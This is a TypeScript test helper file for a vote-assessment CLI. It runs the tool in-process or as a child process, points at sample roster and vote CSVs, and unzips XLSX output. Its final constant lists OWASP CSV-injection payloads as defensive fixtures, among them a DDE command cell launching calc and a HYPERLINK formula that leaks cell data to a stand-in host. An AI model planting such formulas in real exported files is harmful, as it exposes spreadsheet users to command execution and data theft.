import { spawn } from 'node:child_process'
import { unzipSync } from 'fflate'
import { type CommonOptions, runAssessment, type RunResult } from '../src/commands/common.js'
import { exportLabels } from '../src/i18n/export-labels.js'
import type { Lang } from '../src/i18n/index.js'
import type { ReportDoc } from '../src/output/report.js'
import { BIN, type CliResult, ROOT, tempDir } from './helpers.js'
import { kaoheInProcess } from './support/in-process.js'

export { ROOT, tempDir }

/** The bundled samples, as `package.json`'s `samples` script plus the count sheet. */
export const SAMPLE_FILES = {
  roster: 'samples/roster.csv',
  votes: ['samples/votes-long.csv', 'samples/votes-wide-gb18030.csv', 'samples/votes-counts.csv'],
}
export const SAMPLE_ARGS = [...SAMPLE_FILES.votes.flatMap((v) => ['--votes', v]), '--roster', SAMPLE_FILES.roster]

/**
 * Run kaohe, colour off, no SOURCE_DATE_EPOCH unless given: in this process (test/support/
 * in-process.ts), or as the built CLI when `nodeArgs` are given (they need a node of their own).
 */
export const runCli = (
  args: string[],
  opts: { cwd?: string; env?: Record<string, string>; nodeArgs?: string[] } = {},
): Promise<CliResult> =>
  opts.nodeArgs !== undefined ? runCliSpawned(args, opts) : kaoheInProcess(args, { cwd: opts.cwd ?? ROOT, env: { SOURCE_DATE_EPOCH: undefined, ...opts.env } })

/**
 * The built CLI (after `npm run build`) as a child process, colour off, no SOURCE_DATE_EPOCH
 * unless given: for what only a real process shows (locks held by another process, signals).
 */
export const runCliSpawned = (
  args: string[],
  opts: { cwd?: string; env?: Record<string, string>; nodeArgs?: string[] } = {},
): Promise<CliResult> =>
  new Promise((resolve, reject) => {
    const env: Record<string, string | undefined> = { ...process.env, NO_COLOR: '1', SOURCE_DATE_EPOCH: undefined, ...opts.env }
    const child = spawn(process.execPath, [...(opts.nodeArgs ?? []), BIN, ...args], { cwd: opts.cwd ?? ROOT, env: env as NodeJS.ProcessEnv })
    let stdout = ''
    let stderr = ''
    child.stdout.setEncoding('utf8').on('data', (s: string) => (stdout += s))
    child.stderr.setEncoding('utf8').on('data', (s: string) => (stderr += s))
    child.on('error', reject)
    child.on('close', (code) => resolve({ code, stdout, stderr }))
  })


const commonOptions = (lang: Lang): CommonOptions => ({
  lang,
  format: 'json',
  quiet: true,
  color: false,
  lenient: false,
  encoding: 'auto',
  delimiter: undefined,
  sheet: undefined,
  policy: undefined,
})

/** The samples assessed in-process (paths relative to the repository, as the CLI is run there). */
export const assessFiles = async (
  votes: string[],
  roster: string | null,
  opts: { lang?: Lang; command?: 'assess' | 'tally'; policy?: string; locate?: (p: string) => string } = {},
): Promise<RunResult> => {
  const cwd = process.cwd()
  process.chdir(ROOT)
  try {
    return await runAssessment({
      command: opts.command ?? 'assess',
      opts: { ...commonOptions(opts.lang ?? 'zh'), policy: opts.policy },
      votes,
      roster,
      shape: null,
      sumCounts: false,
      locate: opts.locate,
    })
  } finally {
    process.chdir(cwd)
  }
}

export const sampleRun = (lang: Lang = 'zh'): Promise<RunResult> => assessFiles(SAMPLE_FILES.votes, SAMPLE_FILES.roster, { lang })

export const renderContext = (r: RunResult, lang: Lang = 'zh', csvEncoding: 'utf-8' | 'gb18030' = 'utf-8') => ({
  dict: r.dict,
  labels: exportLabels(lang),
  csvEncoding,
})

/** A deep copy of a document, to change for one test. */
export const cloneDoc = (doc: ReportDoc): ReportDoc => structuredClone(doc)

/** The files inside an XLSX (a zip), as text. */
export const unzipText = (bytes: Uint8Array): Record<string, string> => {
  const files = unzipSync(bytes)
  return Object.fromEntries(Object.entries(files).map(([k, v]) => [k, new TextDecoder().decode(v)]))
}

/** OWASP CSV-injection payloads, each a cell that a spreadsheet would otherwise evaluate. */
export const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
] as const
